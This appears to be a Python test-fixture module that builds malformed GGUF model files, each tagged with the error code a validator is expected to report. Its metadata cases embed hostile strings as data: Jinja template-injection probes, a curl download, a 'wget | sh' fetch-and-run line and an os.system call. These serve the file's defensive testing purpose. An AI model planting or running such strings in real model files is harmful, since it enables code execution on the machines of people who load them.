"""Malformed GGUF files, by the fault that they show."""

# ruff: noqa: E501 - one case a line reads best
from __future__ import annotations

import struct
from collections.abc import Sequence


def gguf_string(text: str | bytes, *, length: int | None = None) -> bytes:
    """A counted string, its length true or not."""
    data = text if isinstance(text, bytes) else text.encode()
    return struct.pack("<Q", len(data) if length is None else length) + data


def gguf_key(key: str | bytes, kind: int, value: bytes) -> bytes:
    """One metadata entry: 4 is a 32-bit number, 8 a string, 9 an array."""
    return gguf_string(key) + struct.pack("<I", kind) + value


def gguf_array(key: str, kind: int, length: int, values: bytes) -> bytes:
    """A metadata entry that is an array of this many elements of a kind."""
    return gguf_key(key, 9, struct.pack("<IQ", kind, length) + values)


def gguf_tensor(name: str, shape: list[int], offset: int, kind: int = 0) -> bytes:
    """One entry of the tensor list; kind 0 is F32, 2 is Q4_0 (blocks of 32)."""
    dimensions = struct.pack(f"<I{len(shape)}Q", len(shape), *shape)
    return gguf_string(name) + dimensions + struct.pack("<IQ", kind, offset)


def gguf_bytes(
    keys: Sequence[bytes],
    tensors: Sequence[bytes],
    data: bytes,
    *,
    version: int = 3,
    counts: tuple[int, int] | None = None,
    alignment: int = 32,
) -> bytes:
    """A file of these parts, its counts (tensors, keys) true or not."""
    count = (len(tensors), len(keys)) if counts is None else counts
    head = b"GGUF" + struct.pack("<IQQ", version, *count) + b"".join(keys) + b"".join(tensors)
    return head + bytes(-len(head) % alignment) + data


GGUF_ARCHITECTURE = gguf_key("general.architecture", 8, gguf_string("llama"))


def gguf_cases() -> dict[str, tuple[str, bytes]]:
    """Malformed files: name to (code, bytes)."""
    key, tensor, whole = GGUF_ARCHITECTURE, gguf_tensor("w", [8], 0), bytes(32)
    good = gguf_bytes([key], [tensor], whole)
    array = struct.pack("<IQ", 8, 2**60)

    def aligned_to(value: bytes, kind: int = 4) -> bytes:
        return gguf_bytes([gguf_key("general.alignment", kind, value)], [tensor], whole)

    def holding(*tensors: bytes, data: bytes = whole) -> bytes:
        return gguf_bytes([key], list(tensors), data)

    return {
        "empty": ("GGUF-MAGIC", b""),
        "other_magic": ("GGUF-MAGIC", b"GGUX" + good[4:]),
        "version_zero": ("GGUF-VERSION", gguf_bytes([key], [tensor], whole, version=0)),
        "version_nine": ("GGUF-VERSION", gguf_bytes([key], [tensor], whole, version=9)),
        "only_magic": ("GGUF-HEADER", b"GGUF"),
        "tensor_count": ("GGUF-HEADER", gguf_bytes([key], [tensor], whole, counts=(2**62, 1))),
        "key_count": ("GGUF-HEADER", gguf_bytes([key], [tensor], whole, counts=(1, 2**62))),
        "too_many_keys": ("GGUF-HEADER", gguf_bytes([key], [], b"", counts=(0, 40))),
        "key_length": ("GGUF-HEADER", gguf_bytes([gguf_string("k", length=2**40)], [], whole)),
        "string_length": ("GGUF-HEADER", gguf_bytes([gguf_key("k", 8, gguf_string("v", length=2**63))], [], whole)),
        "array_length": ("GGUF-HEADER", gguf_bytes([gguf_key("k", 9, array)], [], whole)),
        "value_type": ("GGUF-HEADER", gguf_bytes([gguf_key("k", 13, bytes(8))], [], whole)),
        "nested_arrays": ("GGUF-HEADER", gguf_bytes([gguf_key("k", 9, struct.pack("<IQ", 9, 1) * 9)], [], whole)),
        "cut_in_header": ("GGUF-HEADER", good[:40]),
        "nine_dimensions": ("GGUF-HEADER", holding(gguf_tensor("w", [1] * 9, 0))),
        "duplicate_key": ("GGUF-KEY", gguf_bytes([key, key], [tensor], whole)),
        "empty_key": ("GGUF-KEY", gguf_bytes([gguf_key("", 4, bytes(4))], [tensor], whole)),
        "control_in_key": ("GGUF-KEY", gguf_bytes([gguf_key("a\x1b[2J", 4, bytes(4))], [tensor], whole)),
        "alignment_zero": ("GGUF-ALIGN", aligned_to(bytes(4))),
        "alignment_odd": ("GGUF-ALIGN", aligned_to(struct.pack("<I", 33))),
        "alignment_text": ("GGUF-ALIGN", aligned_to(gguf_string("32"), 8)),
        "duplicate_tensor": ("GGUF-DUP", holding(tensor, gguf_tensor("w", [8], 32), data=bytes(64))),
        "long_name": ("GGUF-NAME", holding(gguf_tensor("w" * 64, [8], 0))),
        "no_name": ("GGUF-NAME", holding(gguf_tensor("", [8], 0))),
        "unknown_type": ("GGUF-TYPE", holding(gguf_tensor("w", [8], 0, kind=4))),
        "far_type": ("GGUF-TYPE", holding(gguf_tensor("w", [8], 0, kind=2**31))),
        "no_dimensions": ("GGUF-DIMS", holding(gguf_tensor("w", [], 0))),
        "five_dimensions": ("GGUF-DIMS", holding(gguf_tensor("w", [1, 1, 1, 1, 8], 0))),
        "overflow": ("GGUF-DIMS", holding(gguf_tensor("w", [2**32, 2**32], 0))),
        "overflow_to_zero": ("GGUF-DIMS", holding(gguf_tensor("w", [2**63, 2], 0))),
        "half_block": ("GGUF-DIMS", holding(gguf_tensor("w", [33], 0, kind=2))),
        "misaligned": ("GGUF-OFFSET", holding(gguf_tensor("w", [8], 5), data=bytes(64))),
        "overlap": ("GGUF-LAYOUT", holding(gguf_tensor("w", [16], 0), gguf_tensor("v", [8], 32), data=bytes(64))),
        "hole": ("GGUF-LAYOUT", holding(tensor, gguf_tensor("v", [8], 96), data=bytes(128))),
        "late_start": ("GGUF-LAYOUT", holding(gguf_tensor("w", [8], 32), data=bytes(64))),
        "far_offset": ("GGUF-TRUNCATED", holding(gguf_tensor("w", [8], 2**63))),
        "cut_off": ("GGUF-TRUNCATED", good[:-1]),
        "version_one": ("GGUF-VERSION", gguf_bytes([key], [tensor], whole, version=1)),
        "legacy_ggjt": ("GGUF-LEGACY", b"tjgg" + bytes(64)),
        "legacy_ggml": ("GGUF-LEGACY", b"lmgg" + bytes(64)),
        "legacy_big_endian": ("GGUF-LEGACY", b"GGMF\0\0\0\1" + bytes(64)),
        "alignment_of_64_bits": ("GGUF-ALIGN", aligned_to(struct.pack("<Q", 32), 10)),
        "empty_dimension": ("GGUF-DIMS", holding(gguf_tensor("w", [8, 0], 0))),
        "zero_in_key": ("GGUF-VALUE", gguf_bytes([key, gguf_key("a\0b", 4, bytes(4))], [tensor], whole)),
        "zero_in_name": ("GGUF-VALUE", holding(gguf_tensor("w\0x", [8], 0))),
        "trailing": ("GGUF-TRAIL", good + b"more"),
        "trailing_without_tensors": ("GGUF-TRAIL", gguf_bytes([key], [], b"more")),
    }  # fmt: skip


def gguf_metadata_cases() -> dict[str, tuple[str, bytes]]:
    """Files whose metadata contradicts itself, with tensors that lie where they should: name to (code, bytes)."""
    key, tensor, whole = GGUF_ARCHITECTURE, gguf_tensor("w", [8], 0), bytes(32)
    tokens = gguf_array("tokenizer.ggml.tokens", 8, 2, gguf_string("a") + gguf_string("b"))
    return {
        "zero_in_text": ("GGUF-VALUE", gguf_bytes([key, gguf_key("a", 8, gguf_string("b\0c"))], [tensor], whole)),
        "no_utf8": ("GGUF-VALUE", gguf_bytes([key, gguf_key("a", 8, gguf_string(b"\xff\xfe"))], [tensor], whole)),
        "truth_of_seven": ("GGUF-VALUE", gguf_bytes([key, gguf_key("a", 7, b"\x07")], [tensor], whole)),
        "array_of_arrays": ("GGUF-VALUE", gguf_bytes([key, gguf_key("a", 9, struct.pack("<IQIQ", 9, 1, 4, 0))], [tensor], whole)),
        "architecture_is_a_number": ("GGUF-VALUE", gguf_bytes([gguf_key("general.architecture", 4, bytes(4))], [tensor], whole)),
        "tokens_are_numbers": ("GGUF-VALUE", gguf_bytes([key, gguf_array("tokenizer.ggml.tokens", 4, 2, bytes(8))], [tensor], whole)),
        "no_architecture": ("GGUF-KEY", gguf_bytes([gguf_array("tokenizer.ggml.tokens", 8, 1, gguf_string("a"))], [tensor], whole)),
        "fewer_scores": ("GGUF-VOCAB", gguf_bytes([key, tokens, gguf_array("tokenizer.ggml.scores", 6, 1, bytes(4))], [tensor], whole)),
        "more_token_types": ("GGUF-VOCAB", gguf_bytes([key, tokens, gguf_array("tokenizer.ggml.token_type", 5, 3, bytes(12))], [tensor], whole)),
        "part_of_none": ("GGUF-SPLIT", gguf_bytes([key, gguf_key("split.no", 2, b"\2\0"), gguf_key("split.count", 2, b"\2\0")], [tensor], whole)),
        "template_elsewhere": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.description", 8, gguf_string("{{ ''.__class__ }}"))], [tensor], whole)),
        "template_behind_text": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.description", 8, gguf_string("a" * 70_000 + "{{ ''.__class__ }}"))], [tensor], whole)),
        "command": ("GGUF-TEXT", gguf_bytes([key, gguf_key("download", 8, gguf_string("curl -o /tmp/x https://example.org/x"))], [tensor], whole)),
        "command_for_a_shell": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.url", 8, gguf_string("see: wget -q x | sh"))], [tensor], whole)),
        "code_in_metadata": ("GGUF-TEXT", gguf_bytes([key, gguf_key("general.url", 8, gguf_string("__import__('os').system('id')"))], [tensor], whole)),
        "list_of_templates": ("GGUF-TEXT", gguf_bytes([key, gguf_array("tokenizer.chat_templates", 8, 1, gguf_string("{{ x.__class__ }}"))], [tensor], whole)),
        "template_in_array": ("GGUF-TEXT", gguf_bytes([key, gguf_array("tokenizer.templates", 8, 1, gguf_string("{% set x = y|attr('z') %}"))], [tensor], whole)),
    }  # fmt: skip
